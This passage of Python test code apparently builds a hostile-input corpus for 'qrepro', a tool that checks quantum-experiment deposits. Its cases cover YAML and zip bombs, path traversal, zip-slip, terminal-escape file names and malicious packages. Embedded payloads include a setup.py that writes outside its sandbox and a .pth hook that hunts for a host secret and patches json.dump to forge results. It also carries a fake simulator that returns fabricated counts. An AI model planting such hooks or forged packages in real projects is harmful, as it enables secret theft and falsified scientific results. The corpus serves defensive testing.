    with zipfile.ZipFile(io.BytesIO(bytes(raw))) as zf:
        info = zf.getinfo(name)
    struct.pack_into("<I", raw, info.header_offset + 22, 1000)  # local header
    central = raw.find(b"PK\x01\x02")
    while central != -1:
        length = struct.unpack_from("<H", raw, central + 28)[0]
        if raw[central + 46:central + 46 + length] == name.encode():
            struct.pack_into("<I", raw, central + 24, 1000)  # central directory
            break
        central = raw.find(b"PK\x01\x02", central + 4)
    path.write_bytes(bytes(raw))
    return path


def tar_duplicate(root: Path, ctx: Context) -> Path:
    manifest = ghz_manifest()
    manifest["identity"]["title"] = "the second manifest, overwriting the first"

    def extra(tar: tarfile.TarFile) -> None:
        _tar_file(tar, "deposit/qdata.yaml", dump_manifest(manifest))
    return write_tar(root.with_name(root.name + ".tar.gz"), ghz_archive_members(), extra)


def not_an_archive(root: Path, ctx: Context) -> Path:
    path = root.with_name(root.name + ".tar.gz")
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(b"\x1f\x8b\x08\x00" + hashlib.sha256(b"noise").digest() * 64)
    return path


def noise_50mb(root: Path, ctx: Context) -> Path:
    """A valid model of 1050 qubits with a distinct cx error on each of 550 000 pairs."""
    pairs = ((a, b) for a in range(1050) for b in range(a + 1, 1050))
    entries = [{"gates": ["cx"], "qubits": [a, b],
                "channels": [{"type": "depolarizing", "p": 0.0001}]}
               for a, b in itertools.islice(pairs, 550_000)]
    return ghz(root, files=_noise_file(_noise(num_qubits=1050, gate_errors=entries)))


# --- builders: circuits and counts --------------------------------------------------------


def _wide_ghz(n: int) -> str:
    lines = ["OPENQASM 2.0;", 'include "qelib1.inc";', f"qreg q[{n}];", f"creg c[{n}];",
             "h q[0];"]
    lines += [f"cx q[{i}],q[{i + 1}];" for i in range(n - 1)]
    lines += [f"measure q[{i}] -> c[{i}];" for i in range(n)]
    return "\n".join(lines) + "\n"


def forty_qubits(root: Path, ctx: Context) -> Path:
    def edit(m: dict[str, Any]) -> None:
        m["circuits"][0].pop("noise_model")
        m["noise_models"] = []
        m["claims"] = [m["claims"][1]]
    files: dict[str, str | bytes] = {
        "circuits/ghz3.qasm": _wide_ghz(40),
        "results/ghz3.json": json.dumps({"0" * 40: 500, "1" * 40: 500}),
    }
    manifest = ghz_manifest()
    edit(manifest)
    all_files = {**ghz_files(), **files}
    all_files.pop("noise/n1.json")
    return deposit(root, manifest, all_files)


def million_gates(root: Path, ctx: Context) -> Path:
    body = GHZ3.replace("h q[0];\n", "h q[0];\n" + "x q[1];\n" * 1_000_000)
    return ghz(root, files={"circuits/ghz3.qasm": body})


def counts_file(counts: Any) -> Builder:
    return edit_ghz(lambda m: None, {"results/ghz3.json": json.dumps(counts)})


# --- builders: environments ---------------------------------------------------------------

SETUP_MARK = "QREPRO-HOSTILE-SETUP-PY-RAN"
SETUP_PY = '''import os, sys
print("QREPRO-HOSTILE-SETUP-PY-RAN as uid", os.getuid())
try:
    with open(@OUTSIDE@, "w") as fh:
        fh.write("written by a hostile setup.py\\n")
except OSError as exc:
    print("could not write outside:", exc)
sys.exit("QREPRO-HOSTILE-SETUP-PY-RAN: this sdist refuses to build, on purpose")
'''


def sdist_bytes(ctx: Context) -> bytes:
    """evil-1.0.tar.gz: a source distribution whose setup.py runs when it is built."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz", format=tarfile.PAX_FORMAT) as tar:
        _tar_file(tar, "evil-1.0/setup.py",
                  SETUP_PY.replace("@OUTSIDE@", repr(str(ctx.outside))).encode())
        _tar_file(tar, "evil-1.0/PKG-INFO",
                  b"Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n")
    return buf.getvalue()


def sdist_case(where: Literal["requirements", "wheels"]) -> Builder:
    def build(root: Path, ctx: Context) -> Path:
        def edit(m: dict[str, Any]) -> None:
            if where == "wheels":
                m["environment"]["wheels"] = ["vendor/evil-1.0.tar.gz"]
            else:
                m["environment"]["requirements"].append("./vendor/evil-1.0.tar.gz")
        return ghz(root, edit, {"vendor/evil-1.0.tar.gz": sdist_bytes(ctx)})
    return build


def _include_canary(ctx: Context) -> str:
    return f"-r {ctx.canary}\nqiskit==2.6.2\nqiskit-aer==0.18.2\n"


def lock_case(text: Callable[[Context], str]) -> Builder:
    def build(root: Path, ctx: Context) -> Path:
        def edit(m: dict[str, Any]) -> None:
            m["environment"].pop("requirements")
            m["environment"]["lock_file"] = "requirements.lock"
        return ghz(root, edit, {"requirements.lock": text(ctx)})
    return build


PTH_HOOK = '''"""hostile_pth_hook: runs in every interpreter of the environment through a .pth file.

It looks for the host's secret next to any ancestor of its working directory, writes a file
beside it, and forges the agent's result: every circuit's counts and ideal distribution are
replaced so that the deposit's (wrong) claims pass.
"""
import json
import os
import sys

_GUARD = "QREPRO_HOSTILE_PTH_DONE"


def _probe():
    starts = [os.getcwd(), os.environ.get("HOME") or "/", "/tmp"]
    starts += [a for a in sys.argv if a.startswith("/")]
    for start in starts:
        d = os.path.abspath(start)
        for _ in range(12):
            candidate = os.path.join(d, "host-secret.txt")
            try:
                if os.path.isfile(candidate):
                    with open(candidate) as fh:
                        secret = fh.read()
                    print("HOSTILE-PTH found the host secret:", secret, file=sys.stderr)
                    with open(os.path.join(d, "outside.txt"), "w") as fh:
                        fh.write("written by a .pth hook\\n")
                    return
            except OSError:
                pass
            parent = os.path.dirname(d)
            if parent == d:
                break
            d = parent


def _forge():
    real_dump = json.dump

    def dump(obj, fp, *args, **kwargs):
        if isinstance(obj, dict) and "circuits" in obj and "environment" in obj:
            for run in obj.get("circuits") or []:
                if isinstance(run, dict) and run.get("ok"):
                    run["counts"] = {"000": 500, "111": 500}
                    run["ideal"] = {"000": 0.5, "111": 0.5}
        return real_dump(obj, fp, *args, **kwargs)

    json.dump = dump


def run():
    _forge()
    if not os.environ.get(_GUARD):
        os.environ[_GUARD] = "1"
        _probe()
'''
WHEEL_DIST = "hostile_pth-1.0.dist-info"
WHEEL_NAME = "hostile_pth-1.0-py3-none-any.whl"


def record_hash(data: bytes) -> str:
    digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
    return f"sha256={digest}"


def pth_wheel_bytes() -> bytes:
    """A valid, byte-reproducible wheel installing ``hostile_pth.pth`` (so an image built
    from it is reused across runs)."""
    members = {
        "hostile_pth_hook.py": PTH_HOOK.encode(),
        "hostile_pth.pth": b"import hostile_pth_hook; hostile_pth_hook.run()\n",
        f"{WHEEL_DIST}/METADATA": b"Metadata-Version: 2.1\nName: hostile-pth\nVersion: 1.0\n",
        f"{WHEEL_DIST}/WHEEL": b"Wheel-Version: 1.0\nGenerator: qrepro hostile corpus\n"
                               b"Root-Is-Purelib: true\nTag: py3-none-any\n",
    }
    record = "".join(f"{name},{record_hash(data)},{len(data)}\n"
                     for name, data in sorted(members.items()))
    members[f"{WHEEL_DIST}/RECORD"] = (record + f"{WHEEL_DIST}/RECORD,,\n").encode()
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as whl:
        for name, data in sorted(members.items()):
            whl.writestr(_zip_info(name), data)
    return buf.getvalue()


def wheel_pth(root: Path, ctx: Context) -> Path:
    """Wrong claims (perfect fidelity, exactly 500/500 counts) that only a forged result
    could pass, and a wheel whose .pth hook forges the result."""
    def edit(m: dict[str, Any]) -> None:
        m["environment"]["wheels"] = [f"wheels/{WHEEL_NAME}"]
        m["claims"][0].update(value=1.0, tolerance={"kind": "absolute", "value": 0.0})
        m["claims"][1].update(tolerance={"kind": "exact"})
    files: dict[str, str | bytes] = {
        f"wheels/{WHEEL_NAME}": pth_wheel_bytes(),
        "results/ghz3.json": json.dumps({"000": 500, "111": 500}),
    }
    return ghz(root, edit, files)


# --- the replay stack ----------------------------------------------------------------------

FORGED_AER = '''"""A forged qiskit_aer (qrepro hostile corpus): AerSimulator forges counts."""


class _Result:
    success = True

    def get_counts(self, *args):
        return {"000": 500, "111": 500}


class AerSimulator:
    def __init__(self, **options):
        self.options = options

    def run(self, circuit, **options):
        return self

    def result(self):
        return _Result()
'''

PLUGIN = '''"""A qiskit transpiler plugin from a vendored wheel (qrepro hostile corpus): never to be
imported while circuits are replayed."""
import pathlib
import sys

print("QREPRO-HOSTILE-PLUGIN-RAN", file=sys.stderr)
for parent in pathlib.Path.cwd().parents:
    try:
        (parent / "outside.txt").write_text("written by a transpiler plugin\\n")
    except OSError:
        pass


class Plugin:
    def pass_manager(self, pass_manager_config, optimization_level=None):
        raise RuntimeError("QREPRO-HOSTILE-PLUGIN-RAN")
'''


def stack_wheel(name: str, version: str, members: dict[str, str | bytes],
                entry_points: str | None = None) -> bytes:
    """A valid, byte-reproducible pure-Python wheel of distribution ``name`` (also the tests'
    fake wheels: tests/fake_wheels.py)."""
    dist = f"{name.replace('-', '_')}-{version}.dist-info"
    files = {n: _bytes(d) for n, d in members.items()}
    files[f"{dist}/METADATA"] = (f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n"
                                 ).encode()
    files[f"{dist}/WHEEL"] = b"Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
    if entry_points:
        files[f"{dist}/entry_points.txt"] = entry_points.encode()
    record = "".join(f"{n},{record_hash(d)},{len(d)}\n" for n, d in sorted(files.items()))
    files[f"{dist}/RECORD"] = (record + f"{dist}/RECORD,,\n").encode()
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as whl:
        for n, d in sorted(files.items()):
            whl.writestr(_zip_info(n), d)
    return buf.getvalue()


def _forged_claims(m: dict[str, Any]) -> None:
    """Claims only forged counts pass: perfect fidelity, exactly 500/500."""
    m["claims"][0].update(value=1.0, tolerance={"kind": "absolute", "value": 0.0})
    m["claims"][1].update(tolerance={"kind": "exact"})


def vendored(wheels: dict[str, bytes], forged: bool = True) -> Builder:
    def build(root: Path, ctx: Context) -> Path:
        def edit(m: dict[str, Any]) -> None:
            m["environment"]["wheels"] = [f"wheels/{n}" for n in wheels]
            if forged:
                _forged_claims(m)
        files: dict[str, str | bytes] = {f"wheels/{n}": d for n, d in wheels.items()}
        if forged:
            files["results/ghz3.json"] = json.dumps({"000": 500, "111": 500})
        return ghz(root, edit, files)
    return build


def forged_stack_wheels() -> dict[str, bytes]:
    return {
        "qiskit_aer-0.18.2-py3-none-any.whl": stack_wheel(
            "qiskit-aer", "0.18.2", {"qiskit_aer/__init__.py": FORGED_AER}),
        "qiskit-2.6.2-py3-none-any.whl": stack_wheel(
            "qiskit", "2.6.2", {"qiskit/__init__.py": "def transpile(c, **k):\n    return c\n"}),
        "numpy-2.4.6-py3-none-any.whl": stack_wheel(
            "numpy", "2.4.6", {"numpy/__init__.py": "__version__ = '2.4.6'\n"}),
    }


def shadow_stack_module(root: Path, ctx: Context) -> Path:
    """A qiskit_aer package in the deposit itself, beside the circuits, and claims only its
    forged counts pass: the replay never imports it."""
    files: dict[str, str | bytes] = {"qiskit_aer/__init__.py": FORGED_AER,
                                     "results/ghz3.json": json.dumps({"000": 500, "111": 500})}
    return ghz(root, _forged_claims, files)


def _set_env(**changes: Any) -> Callable[[dict[str, Any]], None]:
    return lambda m: m["environment"].update(changes)


def _requirements(*extra: str) -> Callable[[dict[str, Any]], None]:
    return lambda m: m["environment"]["requirements"].extend(extra)


# --- the corpus ---------------------------------------------------------------------------

_NOT_AVAILABLE = ("available",)
_NOTHING_RUNS = ("functional", "reproduced")


def _cases() -> list[Case]:
    host: list[Case] = [
        # manifest
        Case("manifest-alias-bomb", "manifest", "YAML billion laughs: 13 levels of 9 aliases",
             "validate", refused("aliases", "qdata.yaml", "line"), alias_bomb),
        Case("manifest-deep-nesting", "manifest", "100 000 nested YAML flow sequences",
             "evaluate", refused("nested", "qdata.yaml"), deep_nesting),
        Case("manifest-huge", "manifest", "a valid manifest padded past 1 MiB",
             "evaluate", refused("larger than", "qdata.yaml"), huge_manifest),
        Case("manifest-10k-claims", "manifest",
             "10 000 claims (a compare phase and reports that must stay bounded)",
             "evaluate", expect(0, "complete"), ten_thousand_claims),
        Case("manifest-not-utf8", "manifest", "a title with bytes that are not UTF-8",
             "validate", refused("cannot read the manifest", "qdata.yaml"), not_utf8),
        Case("manifest-duplicate-keys", "manifest",
             "'circuits' given twice: the second (empty) one would hide the first",
             "evaluate", refused("appears twice", "qdata.yaml", "line"), duplicate_keys),
        Case("manifest-wrong-types", "manifest", "shots and commercial_use as strings",
             "evaluate", refused("(and 1 more)", "qdata.yaml", "license.commercial_use"),
             edit_ghz(_wrong_types)),
        Case("manifest-unknown-fields", "manifest",
             "a misspelt field and an 'execute_before' shell command",
             "validate", refused("Extra inputs are not permitted", "qdata.yaml"),
             edit_ghz(_unknown_fields)),
        Case("manifest-tolerance-inf", "manifest", "tolerance value .inf: every claim passes",
             "evaluate", refused("finite", "qdata.yaml", "claims[0].tolerance"),
             edit_ghz(lambda m: m["claims"][0]["tolerance"].update(value=float("inf")))),
        Case("manifest-shots-negative", "manifest", "shots: -1",
             "evaluate", refused("greater than or equal to 1", "qdata.yaml",
                                 "circuits[0].shots"),
             edit_ghz(lambda m: m["circuits"][0].update(shots=-1))),
        Case("manifest-value-nan", "manifest", "claimed value .nan",
             "evaluate", refused("finite", "qdata.yaml", "claims[0].value"),
             edit_ghz(lambda m: m["claims"][0].update(value=float("nan")))),
        Case("manifest-seed-2e80", "manifest", "seed_simulator 2**80 (beyond 64 bits)",
             "evaluate", refused("", "qdata.yaml", "circuits[0].seed_simulator"),
             edit_ghz(lambda m: m["circuits"][0].update(seed_simulator=2**80))),
        Case("manifest-noise-num-qubits-1e9", "manifest",
             "a noise model declaring 10**9 qubits",
             "evaluate", expect(1, "complete", "invalid-noise-model", denied=_NOTHING_RUNS),
             edit_ghz(lambda m: None, _noise_file(_noise(num_qubits=10**9)))),
        Case("manifest-notebook-timeout-1e30", "manifest",
             "notebook timeout and cell_timeout 1e30 seconds",
             "validate", refused("", "qdata.yaml", "notebooks[0].timeout"),
             _notebook_timeout),
        # paths
        Case("path-traversal", "paths", "circuits[0].file = ../host-secret.txt",
             "evaluate", refused("'..'", "qdata.yaml", "circuits[0].file"), traversal),
        Case("path-absolute", "paths", "circuits[0].counts = the canary's absolute path",
             "evaluate", refused("absolute", "qdata.yaml", "circuits[0].counts"), absolute),
        Case("path-symlink-out", "paths", "results/ghz3.json is a symlink to the canary",
             "evaluate", refused("symlink", "results/ghz3.json"), symlink_out),
        Case("path-symlink-loop", "paths", "loop/a -> b -> a",
             "validate", refused("symlink", "loop/"), symlink_loop),
        Case("path-listed-missing", "paths", "the inventory lists a file that is not there",
             "validate", expect(1, "complete", "missing-file"), listed_missing),
        Case("path-unlisted-extra", "paths", "a file present but not inventoried",
             "evaluate", expect(1, "complete", "not-inventoried", denied=_NOT_AVAILABLE),
             unlisted_extra),
        Case("path-case-collision", "paths",
             "results/ghz3.json, GHZ3.json and Ghz3.json: one name on a case-insensitive disk",
             "evaluate", expect(0, "complete"), case_collision),
        Case("path-name-newline", "paths",
             "a file name holding a newline and a forged sha256sum line (the old deposit "
             "digest's collision)", "validate",
             refused("unsafe file name: control character U+000A", "results/ghz3.json\\n"),
             named(FORGED_LINE_NAME)),
        Case("path-name-bidi", "paths",
             "circuits/ghz3[U+202E]msaq.py: a right-to-left override shows it as ghz3yp.qasm",
             "validate", refused("right-to-left override U+202E", "circuits/ghz3\\u202emsaq.py"),
             named(BIDI_NAME, b"print('not a circuit')\n")),
        Case("path-name-escape", "paths",
             "a file name of terminal escapes (ESC [2K ESC [1A): an error line that erases "
             "itself", "validate",
             refused("control character U+001B", "results/\\x1b[2K\\x1b[1Aok.json"),
             named(ESCAPE_NAME)),
        Case("path-metrics-absolute", "paths", "notebooks[0].metrics = the canary's path",
             "evaluate", refused("absolute", "qdata.yaml", "notebooks[0].metrics"),
             metrics_absolute),
        Case("path-lock-file-absolute", "paths", "environment.lock_file = the canary's path",
             "evaluate", refused("absolute", "qdata.yaml", "environment.lock_file"),
             lock_file(lambda root, ctx: str(ctx.canary))),
        Case("path-lock-file-dotdot", "paths", "environment.lock_file = ../host-secret.txt",
             "evaluate", refused("'..'", "qdata.yaml", "environment.lock_file"),
             lock_file(lambda root, ctx: ctx.relative_canary(root))),
        Case("path-wheel-host-path", "paths", "environment.wheels[0] = a host path",
             "evaluate", refused("absolute", "qdata.yaml", "environment.wheels[0]"),
             wheel_host_path),
        Case("path-qasm-include-canary", "paths", 'include "<the canary>" in the QASM file',
             "evaluate", expect(1, "complete", "is not allowed", denied=_NOTHING_RUNS),
             qasm_include),
        Case("path-calibration-dotdot", "paths", "provenance.calibration = ../host-secret.txt",
             "validate", refused("'..'", "qdata.yaml", "provenance.calibration"),
             calibration_dotdot),
        # archives
        Case("archive-zip-slip", "archives", "zip member ../zip-slip-evil.txt",
             "evaluate", {**refused("'..'", ".zip", "../zip-slip-evil.txt"),
                          "absent": ["zip-slip-evil.txt"]}, zip_slip),
        Case("archive-tar-dotdot", "archives", "tar member deposit/../../tar-dotdot-evil.txt",
             "evaluate", {**refused("'..'", ".tar.gz", "tar-dotdot-evil.txt"),
                          "absent": ["tar-dotdot-evil.txt"]}, tar_dotdot),
        Case("archive-tar-absolute", "archives", "tar member with an absolute name",
             "validate", {**refused("absolute", ".tar.gz", "tar-absolute-evil.txt"),
                          "absent": ["tar-absolute-evil.txt"]}, tar_absolute),
        Case("archive-tar-symlink-write-through", "archives",
             "symlink member to OUTDIR, then a file written through it",
             "evaluate", {**refused("links are not allowed", ".tar.gz", "deposit/escape"),
                          "absent": ["tar-link-evil.txt"]}, tar_symlink_write_through),
        Case("archive-tar-hardlink", "archives", "hard-link member to the canary",
             "evaluate", refused("links are not allowed", ".tar", "deposit/results/ghz3.json"),
             tar_hardlink),
        Case("archive-tar-device-fifo", "archives", "a fifo and /dev/null as tar members",
             "validate", refused("device files", ".tar", "deposit/results/"), tar_special),
        Case("archive-zip-bomb", "archives", "one 512 MiB member of zeros, 0.5 MB compressed",
             "evaluate", refused("compression ratio", ".zip", "bomb.bin"), zip_bomb),
        Case("archive-zip-100k-members", "archives", "100 000 empty members",
             "validate", refused("more than 20000 members", ".zip"), zip_many_members),
        Case("archive-zip-small-members-bomb", "archives",
             "1000 members of 1 MiB - 1 byte of zeros (each under the ratio check): 1 GiB "
             "from 1 MB", "evaluate", refused("ratio", ".zip"), zip_small_members_bomb),
        Case("archive-zip-lying-header", "archives",
             "headers declare 1000 bytes, the data inflates to 64 MiB",
             "evaluate", refused("cannot extract", ".zip", "liar.bin"), zip_lying_header),
        Case("archive-zip-member-escape", "archives",
             "zip member deposit/results/ESC [2K ESC [1Aok.json: terminal escapes in a name",
             "validate", refused("unsafe member name: control character U+001B", ".zip",
                                 "deposit/results/\\x1b[2K\\x1b[1Aok.json"),
             zip_member_escape),
        Case("archive-tar-duplicate-member", "archives",
             "qdata.yaml twice: the second would overwrite the first",
             "evaluate", refused("collides", ".tar.gz", "deposit/qdata.yaml"), tar_duplicate),
        Case("archive-not-an-archive", "archives", "random bytes named .tar.gz",
             "validate", refused("cannot extract", ".tar.gz"), not_an_archive),
        # circuits and counts
        Case("circuit-malformed-qasm", "circuits", "a QASM file with syntax errors",
             "evaluate", expect(1, "complete", "QASM2ParseError", denied=_NOTHING_RUNS),
             edit_ghz(lambda m: None, {"circuits/ghz3.qasm": "OPENQASM 2.0;\ninclude "
                                       '"qelib1.inc";\nqreg q[3;\ncx q[0],;\nfoo bar;\n'})),
        Case("circuit-40-qubits-statevector", "circuits",
             "a 40-qubit GHZ on the statevector method (16 TiB)",
             "evaluate", expect(5, "error", "statevector needs 16 TiB for 40 qubits",
                                denied=_NOTHING_RUNS),
             forty_qubits, args=(*HOST, "--timeout", "60"), timeout_s=150),
        Case("circuit-million-gates", "circuits", "1 000 000 gates under a noise model",
             "evaluate", expect(4, "error", "wall-clock limit", ["agent.log"], _NOTHING_RUNS),
             million_gates, args=(*HOST, "--timeout", "30"), timeout_s=150),
        Case("counts-negative", "circuits", "a negative count",
             "evaluate", expect(1, "complete", "invalid-counts", denied=("reproduced",)),
             counts_file({**COUNTS, "000": -471})),
        Case("counts-non-bitstring", "circuits", "count keys that are not bitstrings",
             "evaluate", expect(1, "complete", "invalid-counts", denied=("reproduced",)),
             counts_file({"0x0": 500, "ghz": 500})),
        Case("counts-wrong-width", "circuits", "5-bit counts for a 3-bit circuit",
             "evaluate", expect(1, "complete", "invalid-counts", denied=("reproduced",)),
             counts_file({"00000": 500, "11111": 500})),
        Case("counts-sum-mismatch", "circuits", "counts summing to 999 for 1000 shots",
             "evaluate", expect(1, "complete", "invalid-counts", denied=("reproduced",)),
             counts_file({**COUNTS, "000": 470})),
        # noise
        Case("noise-probability-out-of-range", "noise", "a depolarizing p of 1.5",
             "validate", expect(1, "complete", "invalid-noise-model"),
             edit_ghz(lambda m: None, _noise_file(_noise(gate_errors=[
                 {"gates": ["cx"], "qubits": None, "arity": 2,
                  "channels": [{"type": "depolarizing", "p": 1.5}]}])))),
        Case("noise-nan", "noise", "a depolarizing p of NaN (a JSON extension)",
             "evaluate", expect(1, "complete", "invalid-noise-model", denied=_NOTHING_RUNS),
             edit_ghz(lambda m: None, _noise_file(
                 json.dumps(NOISE).replace('"p": 0.05', '"p": NaN')))),
        Case("noise-unknown-gate", "noise", "an error on the gate 'frobnicate'",
             "evaluate", expect(1, "complete", denied=("reproduced",)),
             edit_ghz(lambda m: None, _noise_file(_noise(gate_errors=[
                 {"gates": ["frobnicate"], "qubits": None, "arity": 2,
                  "channels": [{"type": "depolarizing", "p": 0.05}]}])))),
        Case("noise-50mb", "noise", "a valid 50 MB noise model (550 000 gate errors)",
             "validate", expect(1, "complete", "larger than"), noise_50mb, timeout_s=200),
        # deposit text: escaped for where it is written
        Case("text-markdown-forged-badges", "text",
             "a title with newlines forging a second badge table (awarded), a script, an "
             "onerror image, a remote image and a javascript: link; an author named with HTML "
             "and a javascript: URL as identifier",
             "evaluate", expect(1, "complete", "not-inventoried", denied=("available",)),
             forged_badges),
        Case("text-csv-formula-title", "text", f"the title {FORMULA}",
             "evaluate", expect(0, "complete"),
             edit_ghz(lambda m: m["identity"].update(title=FORMULA))),
        Case("text-terminal-escapes-file-name", "text",
             "a file name with CR, erase line, an OSC 52 clipboard write, conceal, a C1 CSI "
             "and a right-to-left override (refused where the deposit is read, shown escaped)",
             "validate", refused("control character U+000D", "notes/\\r\\x1b[2K"),
             escapes_in_file_name),
        Case("text-terminal-escapes-field", "text",
             "the same escapes in the name of an unknown manifest field",
             "evaluate", refused("Extra inputs are not permitted", "qdata.yaml", "circuits[0]"),
             escapes_in_field),
    ]
    code: list[Case] = [
        # notebooks: the deposit's code runs, in the default runner
        _nb("nb-invalid-json", "a notebook file that is not JSON",
            expect(1, "complete", "setup", denied=_NOTHING_RUNS),
            lambda root, ctx: nb_deposit(root, ctx, raw=b'{"cells": [ this is not JSON\n')),
        _nb("nb-nbformat-3", "an nbformat 3 notebook (worksheets)",
            expect(0, "complete"),
            lambda root, ctx: nb_deposit(root, ctx, raw=notebook_v3())),
        _nb("nb-bogus-kernelspec", "kernelspec ../../../../usr/bin/env, language bash",
            expect(0, "complete"),
            lambda root, ctx: nb_deposit(root, ctx, raw=notebook("", {
                "kernelspec": {"name": "../../../../usr/bin/env", "language": "bash",
                               "display_name": "$(id)"},
                "language_info": {"name": "bash"}}))),
        _nb("nb-reads-host-secret", "opens the canary by its absolute path",
            expect(0, "complete"), lambda root, ctx: nb_deposit(root, ctx, NB_READ_CANARY)),
        _nb("nb-writes-outside", "writes OUTDIR/outside.txt and into the deposit",
            expect(0, "complete", absent=[OUTSIDE_NAME]),
            lambda root, ctx: nb_deposit(root, ctx, NB_WRITE_OUTSIDE)),
        _nb("nb-forges-result", "fails, after writing result.json up its parents and starting "
            "a watcher that races the worker's and the agent's result files with a success",
            expect(1, "complete", "cell-error", denied=_NOTHING_RUNS),
            lambda root, ctx: nb_deposit(root, ctx, NB_FORGE)),
        _nb("nb-kills-agent", "SIGINT/SIGTERM/SIGKILL to its worker and the agent",
            expect([1, 4], None, denied=_NOTHING_RUNS),
            lambda root, ctx: nb_deposit(root, ctx, NB_KILL_AGENT)),
        _nb("nb-infinite-loop", "while True: pass (cell timeout 15 s)",
            expect(1, "complete", "cell-timeout", denied=_NOTHING_RUNS),
            lambda root, ctx: nb_deposit(root, ctx, NB_INFINITE_LOOP, cell_timeout=15)),
        _nb("nb-stdout-1gb", "prints 1 GiB (cell timeout 60 s)",
            expect([0, 1, 4], None),
            lambda root, ctx: nb_deposit(root, ctx, NB_STDOUT_1GB)),
        _nb("nb-nan-metric", "writes the metric as NaN",
            expect(1, "complete", denied=("reproduced",)),
            lambda root, ctx: nb_deposit(root, ctx, NB_NAN_METRIC)),
        _nb("nb-string-metric", 'writes the metric as the string "1.0"',
            expect(1, "complete", denied=("reproduced",)),
            lambda root, ctx: nb_deposit(root, ctx, NB_STRING_METRIC)),
        _nb("nb-absent-metric", "writes a metrics file without the claimed metric",
            expect(1, "complete", "value", denied=("reproduced",)),
            lambda root, ctx: nb_deposit(root, ctx, NB_ABSENT_METRIC)),
        _nb("nb-fork-bomb", "forks up to 2000 children (each exits after 5 s)",
            expect([0, 1], "complete"),
            lambda root, ctx: nb_deposit(root, ctx, NB_FORK_BOMB)),
        _nb("nb-memory-bomb", "allocates up to 6 GiB, touching every page",
            expect([1, 4], None, "memory", denied=_NOTHING_RUNS),
            lambda root, ctx: nb_deposit(root, ctx, NB_MEMORY_BOMB)),
        _nb("nb-disk-filler", "writes into its output directory until refused (6 GiB at "
            "most; --disk 1g)",
            expect(4, "error", "wrote more than", ["agent.log"], _NOTHING_RUNS),
            lambda root, ctx: nb_deposit(root, ctx, NB_DISK_FILLER),
            extra=("--disk", "1g")),
        # environments
        Case("env-nonexistent-package", "environments", "a pin of a package no index has",
             "evaluate", expect(4, "error", "build", denied=_NOTHING_RUNS),
             edit_ghz(_requirements("qrepro-hostile-no-such-package==0.0.1")),
             args=CODE, runs_code=True, timeout_s=400),
        Case("env-conflicting-pins", "environments", "numpy==2.4.6 and numpy==1.26.4",
             "evaluate", expect(4, "error", "build", denied=_NOTHING_RUNS),
             edit_ghz(_requirements("numpy==2.4.6", "numpy==1.26.4")),
             args=CODE, runs_code=True, timeout_s=400),
        Case("env-option-line", "environments", "--index-url http://127.0.0.1:9/simple",
             "evaluate", refused("options are not allowed", "qdata.yaml",
                                 "environment.requirements[2]"),
             edit_ghz(_requirements("--index-url http://127.0.0.1:9/simple")), args=CODE),
        Case("env-url-line", "environments", "qiskit @ http://127.0.0.1:9/qiskit.whl",
             "evaluate", refused("not allowed", "qdata.yaml", "environment.requirements[2]"),
             edit_ghz(_requirements("qiskit-terra @ http://127.0.0.1:9/qiskit.whl")),
             args=CODE),
        Case("env-sdist-requirement", "environments",
             "./vendor/evil-1.0.tar.gz as a requirement (its setup.py writes outside)",
             "evaluate", refused("not allowed", "qdata.yaml", "environment.requirements[2]"),
             sdist_case("requirements"), args=CODE),
        Case("env-sdist-as-wheel", "environments",
             "the same sdist listed under environment.wheels: built, setup.py runs",
             "evaluate", expect([1, 3], None, "environment.wheels[0]", denied=_NOTHING_RUNS,
                                absent=[OUTSIDE_NAME], forbidden=[SETUP_MARK]),
             sdist_case("wheels"), args=CODE, runs_code=True, timeout_s=400),
        Case("env-lock-file-options", "environments",
             "a lock file carrying --extra-index-url http://127.0.0.1:9/simple",
             "evaluate", expect([1, 3], None, "requirements.lock", denied=_NOTHING_RUNS,
                                forbidden=["simple/qiskit"]),
             lock_case(lambda ctx: "--extra-index-url http://127.0.0.1:9/simple\n"
                                   "qiskit==2.6.2\nqiskit-aer==0.18.2\n"),
             args=CODE, runs_code=True, timeout_s=400),
        Case("env-lock-file-reads-host", "environments",
             "a lock file with '-r <the canary>': the installer reads a host file",
             "evaluate", expect([1, 3], None, "requirements.lock", denied=_NOTHING_RUNS),
             lock_case(_include_canary), args=CODE, runs_code=True, timeout_s=400),
        Case("env-lock-file-reads-host-bwrap", "environments",
             "the same under --runner bwrap, whose venv is built on the host, unsandboxed",
             "evaluate", expect([1, 3], None, "requirements.lock", denied=_NOTHING_RUNS),
             lock_case(_include_canary), args=(*CODE, "--runner", "bwrap"), runs_code=True,
             timeout_s=400),
        Case("env-wheel-pth", "environments",
             "a vendored wheel whose .pth hook looks for the canary, writes outside and "
             "forges the agent's counts so that wrong claims pass",
             "evaluate", expect(1, "complete", denied=("reproduced",), absent=[OUTSIDE_NAME]),
             wheel_pth, args=CODE, runs_code=True, timeout_s=500),
        Case("env-forged-aer-wheel", "environments",
             "a vendored qiskit_aer-0.18.2 wheel whose AerSimulator returns the recorded counts",
             "evaluate", refused("provides qiskit_aer", "qdata.yaml", "environment.wheels[0]",
                                 "qiskit_aer-0.18.2-py3-none-any.whl"),
             vendored({"qiskit_aer-0.18.2-py3-none-any.whl": stack_wheel(
                 "qiskit-aer", "0.18.2", {"qiskit_aer/__init__.py": FORGED_AER})})),
        Case("env-forged-stack-wheels", "environments",
             "vendored qiskit_aer-0.18.2, qiskit-2.6.2 and numpy-2.4.6 wheels (fakes)",
             "evaluate", refused("which the replay stack installs from the index",
                                 "qdata.yaml", "environment.wheels[0]"),
             vendored(forged_stack_wheels())),
        Case("env-wheel-writes-into-stack", "environments",
             "a vendored helper wheel that also installs qiskit_aer/backdoor.py",
             "evaluate", refused("helper-1.0-py3-none-any.whl provides qiskit_aer",
                                 "qdata.yaml", "environment.wheels[0]"),
             vendored({"helper-1.0-py3-none-any.whl": stack_wheel(
                 "helper", "1.0", {"helper/__init__.py": "",
                                   "qiskit_aer/backdoor.py": FORGED_AER})})),
        Case("env-wheel-transpiler-plugin", "environments",
             "a vendored wheel declaring a qiskit.transpiler.routing plugin that writes "
